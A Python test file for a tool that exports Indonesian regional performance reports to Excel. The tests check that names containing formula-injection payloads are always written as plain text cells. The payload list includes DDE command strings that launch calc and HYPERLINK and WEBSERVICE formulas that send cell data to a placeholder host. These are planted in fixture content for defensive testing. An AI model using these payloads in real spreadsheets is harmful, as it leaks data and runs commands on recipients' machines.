"""Hostile corpus, workbooks (issue 19, item 3): text from the content reaches `ekspor` and `reviu` workbooks as
string cells, never as a formula, error cell or DDE link, whatever it starts with; `reviu` writes its .md and .xlsx
together or not at all; an output name taken by a folder is an error, never removed."""
from __future__ import annotations

import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from lkjip import cli
from lkjip.tools.reviu import worksheet as reviu
from lkjip.tools.reviu.checks import Finding, Item
from lkjip.tools.spreadsheet.workbook import FormulaCellError, formula_cells, put, save

from conftest import CONTENT

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://x/?d="&C8,"klik")',
    '=WEBSERVICE("http://x/?d="&A1)',
    "=cmd|' /C calc'!A0",                               # DDE
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "#N/A",
    "#DIV/0!",
    "=1+1\x01\x02",                                      # control characters a worksheet cannot hold
]


def _sheet_xml(data: bytes) -> dict:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n: archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")}


def _assert_no_formula(data: bytes) -> None:
    """No formula element in any sheet part, and openpyxl reads back no formula or error cell."""
    for name, xml in _sheet_xml(data).items():
        assert b"<f>" not in xml and b"<f " not in xml, name
        assert b't="e"' not in xml, name
    assert formula_cells(data) == []


def _cells(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [(ws.title, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


# --- the one helper -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_put_writes_every_payload_as_text(payload):
    import datetime as dt
    wb = openpyxl.Workbook()
    put(wb.active.cell(row=1, column=1), payload)
    data = save(wb, dt.datetime(2023, 1, 1))
    _assert_no_formula(data)
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A1"]
    assert cell.data_type == "s"
    assert cell.value == payload.replace("\x01", "\ufffd").replace("\x02", "\ufffd")


def test_save_refuses_a_formula_the_tool_did_not_mean():
    import datetime as dt
    wb = openpyxl.Workbook()
    wb.active["B2"] = "=1+1"                       # bypassing put(): openpyxl makes it a formula
    with pytest.raises(FormulaCellError, match="B2"):
        save(wb, dt.datetime(2023, 1, 1))


def test_numbers_stay_numbers():
    import datetime as dt
    wb = openpyxl.Workbook()
    put(wb.active["A1"], 5721724782)
    put(wb.active["A2"], 0.9133)
    ws = openpyxl.load_workbook(io.BytesIO(save(wb, dt.datetime(2023, 1, 1)))).active
    assert (ws["A1"].value, ws["A1"].data_type, ws["A2"].value) == (5721724782, "n", 0.9133)


# --- ekspor on content whose names are formulas -----------------------------------------------------------

# (file, text replaced once, replacement YAML text, payload expected in a cell)
POISON = {
    "sub-kegiatan": ("program.yaml", "nama: Penyusunan Dokumen Perencanaan Perangkat Daerah",
                     PAYLOADS[1]),
    "indikator": ("program.yaml", "indikator: Jumlah dokumen RKA-SKPD dan RKA-SKPD Perubahan yang tersusun",
                  PAYLOADS[2]),
    "program": ("program.yaml", "nama: Program Penunjang Urusan Pemerintahan Daerah Kabupaten/Kota", PAYLOADS[4]),
    "kegiatan": ("program.yaml", "nama: Perencanaan, Penganggaran, dan Evaluasi Kinerja Perangkat Daerah",
                 PAYLOADS[5]),
    "pegawai": ("pegawai.yaml", "nama: ARDAH", PAYLOADS[3]),
    "unit": ("organisasi.yaml", "    nama: Sekretariat\n", PAYLOADS[6]),
    "sub-kegiatan-tab": ("program.yaml", "nama: Penyusunan Dokumen Perencanaan Perangkat Daerah", None),
}


def _poison(root: Path, replacements: dict) -> None:
    for field, (name, old, payload) in replacements.items():
        path = root / "2022" / name
        text = path.read_text(encoding="utf-8")
        assert old in text, field
        indent = re.match(r"\s*", old).group(0)
        key = old.strip().split(":")[0]
        new = f"{indent}{key}: {json.dumps(payload, ensure_ascii=False)}" + ("\n" if old.endswith("\n") else "")
        path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    root = tmp_path_factory.mktemp("racun") / "content"
    shutil.copytree(CONTENT, root)
    _poison(root, {k: v for k, v in POISON.items() if v[2] is not None})
    # a second sub kegiatan name that is an error value, one with a tab before '='
    path = root / "2022" / "program.yaml"
    text = path.read_text(encoding="utf-8")
    names = re.findall(r"^            nama: (.+)$", text, re.M)
    text = text.replace(f"            nama: {names[3]}\n", '            nama: "#N/A"\n', 1)
    text = text.replace(f"            nama: {names[4]}\n", '            nama: "\\t=1+1"\n', 1)
    path.write_text(text, encoding="utf-8")
    prose = root / "2022" / "prosa" / "realisasi_anggaran.md"            # a pipe table in prose, before Tabel 3.11
    prose.write_text(prose.read_text(encoding="utf-8") + "\n\n| Uraian | Nilai |\n|---|---|\n| =SUM(1+1) | +cmd |\n",
                     encoding="utf-8")
    out = root.parent / "output"
    assert cli.main(["check", "--content", str(root), "--year", "2022"]) == 0     # all of it passes check
    assert cli.main(["ekspor", "--content", str(root), "--year", "2022", "--output", str(out)]) == 0
    assert cli.main(["reviu", "--content", str(root), "--year", "2022", "--output", str(out)]) == 0
    return root, out


EXPECTED = {field: payload for field, (_n, _o, payload) in POISON.items() if payload is not None}
EXPECTED.update({"error-value": "#N/A", "tab-equals": "\t=1+1", "prose-table": "=SUM(1+1)", "prose-plus": "+cmd"})


@pytest.mark.parametrize("field", sorted(EXPECTED))
def test_ekspor_writes_each_poisoned_name_as_text(poisoned, field):
    _root, out = poisoned
    data = (out / "lkjip-2022-tabel.xlsx").read_bytes()
    _assert_no_formula(data)
    hits = [(sheet, c) for sheet, c in _cells(data) if isinstance(c.value, str) and EXPECTED[field] in c.value]
    assert hits, f"{field} reaches no sheet"
    assert {c.data_type for _s, c in hits} == {"s"}


def test_ekspor_numbers_prose_pipe_tables_as_the_docx_does(poisoned):
    """DocxWriter captions the prose table 'Tabel 3.11' and the budget table after it 'Tabel 3.12': so do the sheets."""
    _root, out = poisoned
    wb = openpyxl.load_workbook(out / "lkjip-2022-tabel.xlsx")
    assert wb["Tabel 3.11"]["A5"].value == "=SUM(1+1)" and wb["Tabel 3.11"]["A5"].data_type == "s"
    assert wb["Tabel 3.12"]["A1"].value.startswith("Tabel 3.12 Realisasi Anggaran per Program")


def test_reviu_workbook_of_poisoned_content_has_no_formula(poisoned):
    _root, out = poisoned
    _assert_no_formula((out / "reviu-2022.xlsx").read_bytes())
    assert (out / "reviu-2022.md").is_file()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_reviu_findings_text_lands_as_text(report_2022, payload):
    findings = [Finding(payload, "ok", payload, [Item("ok", payload, (payload,))]), Finding(payload, payload, payload)]
    data = reviu.workbook(findings, report_2022.report)
    _assert_no_formula(data)
    shown = payload.replace("\x01", "\ufffd").replace("\x02", "\ufffd")
    hits = [c for _s, c in _cells(data) if c.value == shown]
    assert len(hits) >= 5 and {c.data_type for c in hits} == {"s"}


# --- all or nothing ----------------------------------------------------------------------------------------

def _listing(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): (p.read_bytes() if p.is_file() else None)
            for p in sorted(folder.rglob("*")) if not p.name.startswith(".lkjip.lock")}


def test_reviu_writes_neither_file_when_the_workbook_fails(tmp_path, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()

    def broken(findings, report):
        raise RuntimeError("xlsx gagal")
    monkeypatch.setattr(reviu, "workbook", broken)
    assert cli.main(["reviu", "--content", str(CONTENT), "--year", "2022", "--output", str(out)]) == 4
    assert _listing(out) == {}


def test_reviu_keeps_the_previous_pair_when_the_workbook_fails(tmp_path, monkeypatch):
    out = tmp_path / "out"
    assert cli.main(["reviu", "--content", str(CONTENT), "--year", "2022", "--output", str(out)]) == 0
    (out / "reviu-2022.md").write_bytes(b"pasangan lama\n")              # so that a rewrite would show
    (out / "reviu-2022.xlsx").write_bytes(b"pasangan lama\n")
    before = _listing(out)
    monkeypatch.setattr(reviu, "workbook", lambda findings, report: 1 / 0)
    assert cli.main(["reviu", "--content", str(CONTENT), "--year", "2022", "--output", str(out)]) == 4
    assert _listing(out) == before


@pytest.mark.parametrize("taken", ["reviu-2022.xlsx", "reviu-2022.md"])
def test_reviu_output_name_taken_by_a_folder(tmp_path, taken):
    out = tmp_path / "out"
    (out / taken).mkdir(parents=True)
    (out / taken / "catatan.txt").write_text("milik pengguna")
    assert cli.main(["reviu", "--content", str(CONTENT), "--year", "2022", "--output", str(out)]) == 3
    assert _listing(out) == {taken: None, f"{taken}/catatan.txt": b"milik pengguna"}


def test_ekspor_output_name_taken_by_a_folder(tmp_path):
    out = tmp_path / "out"
    (out / "lkjip-2022-tabel.xlsx").mkdir(parents=True)
    (out / "lkjip-2022-tabel.xlsx" / "catatan.txt").write_text("milik pengguna")
    assert cli.main(["ekspor", "--content", str(CONTENT), "--year", "2022", "--output", str(out)]) == 3
    assert (out / "lkjip-2022-tabel.xlsx" / "catatan.txt").read_text() == "milik pengguna"


# --- the class, not the case: every workbook writer goes through lkjip/tools/spreadsheet/workbook.py ------------------------

def test_no_module_writes_cells_or_saves_workbooks_around_the_helper():
    """A future workbook writer cannot bypass put()/save(): no direct cell assignment or wb.save in lkjip/."""
    root = Path(__file__).resolve().parent.parent / "lkjip"
    direct = re.compile(r"\.value\s*=[^=]|\.cell\([^)]*\bvalue\s*=|\bws\[[^\]]+\]\s*=[^=]|\.append\(\s*\[|\.save\(")
    offenders = []
    for path in sorted(root.rglob("*.py")):
        if path.name == "workbook.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text:
            continue
        offenders += [f"{path.name}:{n}" for n, line in enumerate(text.splitlines(), start=1) if direct.search(line)]
    assert offenders == []


def test_reviu_without_report_date_stamps_the_workbook(tmp_path):
    """examples/kota-dumai-2016 has no laporan.tanggal: the workbook takes 1 January after the year (as ekspor)."""
    example = Path(__file__).resolve().parent.parent / "examples" / "kota-dumai-2016"
    out = tmp_path / "out"
    assert cli.main(["reviu", "--content", str(example), "--output", str(out)]) == 0
    data = (out / "reviu-2016.xlsx").read_bytes()
    _assert_no_formula(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {info.date_time[:3] for info in archive.infolist()} == {(2017, 1, 1)}
